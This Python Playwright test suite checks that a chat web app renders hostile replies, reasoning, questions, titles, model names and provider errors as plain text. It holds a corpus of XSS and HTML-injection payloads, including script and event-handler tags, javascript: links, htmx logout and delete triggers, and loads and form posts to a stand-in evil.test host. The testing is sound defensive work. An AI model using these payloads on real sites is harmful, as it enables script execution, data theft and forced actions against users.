"""What a model, a person or a provider says is never more than text on our pages."""

import asyncio
from collections.abc import Callable

import pytest
from playwright.async_api import expect

from tests.fake_provider import Done, Finish, Script, Status, Text, error_body

from .browser import Watch
from .chat import Chat
from .conftest import Visit
from .server import Server

PWN = "window.__pwned=1"
CORPUS = [
    f"<script>{PWN}</script>",
    f"<ScRiPt src=//evil.test/x.js></sCrIpT><script>{PWN}//",
    f"<img src=x onerror={PWN}>",
    "<img src=https://evil.test/pixel.png>",
    "![pixel](https://evil.test/pixel.png)",
    "![](//evil.test/a.png) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"<svg onload={PWN}><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    f"<svg><script>{PWN}</script><style><img src=x onerror={PWN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe><iframe src=javascript:{PWN}>",
    f"<object data=javascript:{PWN}></object><embed src=https://evil.test/x.swf>",
    "<link rel=stylesheet href=https://evil.test/x.css><base href=https://evil.test/>",
    "<style>*{background:url(https://evil.test/css)}</style><p style='position:fixed;inset:0'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<form action=https://evil.test/ method=post><input name=text autofocus><button>Send</button>",
    f"<details open ontoggle={PWN}><video><source onerror={PWN}></video>",
    f"<body onload={PWN}></body></html><html><head><title>Stolen</title></head>",
    f"[click](javascript:{PWN}) [click](JaVaScRiPt:{PWN}) [click](java\tscript:{PWN})",
    f"[click](data:text/html,<script>{PWN}</script>) [v](vbscript:msgbox) [f](file:///etc/passwd)",
    f"[ref]: javascript:{PWN}\n\n[ref] <javascript:{PWN}>",
    f"[q](https://evil.test/\"onmouseover=\"{PWN}) [a](<https://evil.test/' onfocus='{PWN}>)",
    "<div hx-get=/accounts/logout/ hx-trigger=load></div>",
    "<div data-hx-get=https://evil.test/ data-hx-trigger=load hx-on::load=alert(1)>x</div>",
    "<div hx-post=/c/x/delete hx-trigger='every 1s' hx-vals='js:{a:alert(1)}'></div>",
    "<main hx-swap-oob=true id=conversation>gone</main><form id=composer hx-swap-oob=outerHTML>",
    '<hx-partial hx-target="#composer" hx-swap="outerHTML">gone</hx-partial>',
    '</hx-partial><hx-partial hx-target="body" hx-swap="innerHTML">gone',
    '<template hx type="partial" hx-target="#composer" hx-swap="delete"></template>',
    "</template></div></article></main><h1>Outside</h1>",
    "<textarea><!--</textarea><plaintext><xmp><noscript><p title='</noscript><img src=x>'>",
    f"```html\n<script>{PWN}</script>\n<hx-partial hx-target=body>\n```",
    f'```"onmouseover={PWN}//\ncode\n```',
    f"| <img src=x onerror={PWN}> | [x](javascript:{PWN}) |\n| - | - |\n| <hx-partial> | <b> |",
    f"- <img src=x onerror={PWN}>\n  > <script>{PWN}</script>\n\n# <img src=x onerror={PWN}>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E; \\<b\\>",
    "\u202egnp.exe \u0000 \u2028 \ufeff <\u0000script>alert(1)</script>",
]
ALL = "\n\n".join(CORPUS)

# Whatever the message is: nothing in it may do more than be read.
UNSAFE = """() => [...document.querySelectorAll(".body *, .thoughts *")].filter((element) =>
  element.matches("script, style, link, meta, base, iframe, object, embed, form, img, svg, math")
  || element.matches("video, audio, template, textarea, select, details, dialog, [style], [src]")
  || (element.id && !/^(tail|caret|thinking-caret)-[0-9]+$/.test(element.id))
  || [...element.attributes].some(({ name }) => /^(data-)?(hx|ws|sse)|^on/i.test(name))
  || (element.href && !/^(https?|mailto):/.test(element.href))
).map((element) => element.outerHTML)"""
# Every element around the messages, by its tag and attributes; not what changes with every message.
FRAME = """() => [...document.querySelectorAll("body *:not(.messages *)")]
  .filter((element) => !element.closest("[name=key], .conversations, #status, .composer-error"))
  .map((element) => {
    const copy = element.cloneNode(false);
    for (const name of ["class", "hidden", "aria-busy"]) copy.removeAttribute(name);
    return copy.outerHTML;
  })"""


async def unharmed(chat: Chat, frame: list[str]) -> None:
    assert await chat.page.evaluate(UNSAFE) == []
    assert await chat.page.evaluate(FRAME) == frame
    assert await chat.page.evaluate("window.__pwned") is None
    await expect(chat.page.get_by_role("main")).to_have_count(1)
    await expect(chat.page.get_by_role("heading", name="Outside")).to_have_count(0)
    assert "Stolen" not in await chat.page.title()


@pytest.mark.parametrize("size", [1, 3, 17, 400])
async def test_a_hostile_reply_stays_text(chat: Chat, size: int) -> None:
    await chat.connected()
    await chat.ask("Hello", Script(Text("Hello."), Finish(), Done()))
    await chat.ended()
    frame = await chat.page.evaluate(FRAME)
    await chat.ask("Do your worst.", Script(Text(ALL, size), Finish(), Done()))
    await chat.ended()
    await unharmed(chat, frame)
    await expect(chat.text).to_contain_text(CORPUS[0])
    await chat.reload()
    assert await chat.page.evaluate(UNSAFE) == []
    assert await chat.page.evaluate("window.__pwned") is None


async def test_each_hostile_piece_alone_stays_text(chat: Chat) -> None:
    """Cut off where it is: a stream may end anywhere."""
    frame = None
    for number, piece in enumerate(CORPUS):
        await chat.ask(f"Number {number}?", Script(Text(piece, 5), Finish(), Done()))
        await chat.ended()
        frame = frame or await chat.page.evaluate(FRAME)
        await expect(chat.replies).to_have_count(number + 1)
    await unharmed(chat, frame or [])


async def test_hostile_reasoning_stays_text(chat: Chat) -> None:
    await chat.ask("Hello", Script(Text("Hello."), Finish(), Done()))
    await chat.ended()
    frame = await chat.page.evaluate(FRAME)
    thoughts = Text(ALL, 7, field="reasoning_content")
    await chat.ask("Think.", Script(thoughts, Text("Done."), Finish(), Done()))
    await chat.ended()
    await chat.reply.get_by_text("Thought for").click()
    await expect(chat.reply.locator(".thoughts")).to_contain_text(CORPUS[0])
    await unharmed(chat, frame)


async def test_a_hostile_question_stays_text(chat: Chat) -> None:
    await chat.ask("Hello", Script(Text("Hello."), Finish(), Done()))
    await chat.ended()
    frame = await chat.page.evaluate(FRAME)
    typed = ALL.replace("\u0000", "")
    await chat.ask(typed, Script(Text("No."), Finish(), Done()))
    await chat.ended()
    await unharmed(chat, frame)
    assert chat.saved()[2] == typed
    await chat.reload()
    await unharmed(chat, await chat.page.evaluate(FRAME))
    other = await chat.tab("/")
    assert await other.page.evaluate("window.__pwned") is None


@pytest.mark.parametrize(
    "title", [CORPUS[0], CORPUS[2], CORPUS[25], CORPUS[26], "</title><script>x</script>"]
)
async def test_a_hostile_title_stays_text(chat: Chat, title: str) -> None:
    chat.provider.title = title
    await chat.ask("Title?", Script(Text("Yes."), Finish(), Done()))
    await chat.reconciled()
    frame = await chat.page.evaluate(FRAME)
    await chat.sidebar.get_by_role("link").nth(1).hover()
    await chat.sidebar.locator("summary").first.click()
    await chat.sidebar.get_by_role("button", name="Rename").click()
    await chat.dialog.get_by_label("Title").fill(title)
    await chat.dialog.get_by_role("button", name="Save").click()
    await expect(chat.dialog).to_be_hidden()
    await expect(chat.page.get_by_role("heading", level=1)).to_have_text(title)
    await expect(chat.page).to_have_title(f"{title} – Parley")
    await unharmed(chat, frame)
    await chat.sidebar.locator("summary").first.click()
    await chat.sidebar.get_by_role("button", name="Delete").click()
    await expect(chat.dialog).to_contain_text(title)
    await chat.dialog.get_by_role("button", name="Cancel").click()
    await chat.reload()
    await expect(chat.page).to_have_title(f"{title} – Parley")
    await unharmed(chat, await chat.page.evaluate(FRAME))


async def test_a_hostile_model_name_stays_text(
    own_server: Callable[..., Server], visit: Visit
) -> None:
    name = f'<img src=x onerror="{PWN}"><hx-partial hx-target="body" hx-swap="innerHTML">'
    server = await asyncio.to_thread(own_server, CHAT_MODELS=name)
    chat = await visit(server)
    await chat.ask("Who?", Script(Text("Me."), Finish(), Done()))
    await chat.reconciled()
    frame = await chat.page.evaluate(FRAME)
    await expect(chat.reply).to_contain_text(name)
    await chat.page.get_by_role("button", name="Model and parameters").click()
    await expect(chat.dialog.get_by_label("Model")).to_contain_text(name)
    await chat.page.keyboard.press("Escape")
    await unharmed(chat, frame)


async def test_a_hostile_error_of_the_provider_is_not_shown(chat: Chat, watch: Watch) -> None:
    body = error_body(400, ALL)
    await chat.ask("Fail?", Script(Status(400, body=body)))
    await chat.ended("failed")
    await unharmed(chat, await chat.page.evaluate(FRAME))
    assert "evil" not in await chat.page.content()
